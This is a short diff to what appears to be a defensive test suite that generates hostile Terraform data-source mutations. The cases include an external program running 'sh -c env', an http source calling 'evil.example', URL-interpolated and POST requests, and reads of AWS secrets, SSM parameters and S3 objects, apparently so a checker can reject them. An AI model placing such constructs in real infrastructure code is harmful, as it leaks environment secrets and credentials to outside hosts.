@@ -642,6 +642,14 @@ def _stacks() -> Iterator[Attack]:
     found: dict[str, Mutate] = {
         "external program": put("data>external", {"x": {"program": ["sh", "-c", "env"]}}),
         "http": put("data>http", {"x": {"url": "https://evil.example"}}),
+        "http with what is known": put(
+            "data>http",
+            {"x": {"url": "https://a/${data.aws_partition.x.id}/.well-known/openid-configuration"}},
+        ),
+        "http that writes": put(
+            "data>http",
+            {"x": {"url": "https://a/.well-known/openid-configuration", "method": "POST"}},
+        ),
         "secret": put("data>aws_secretsmanager_secret_version", {"x": {"secret_id": "x"}}),
         "parameter": put("data>aws_ssm_parameter", {"x": {"name": "x"}}),
         "object": put("data>aws_s3_object", {"x": {"bucket": "x", "key": "y"}}),
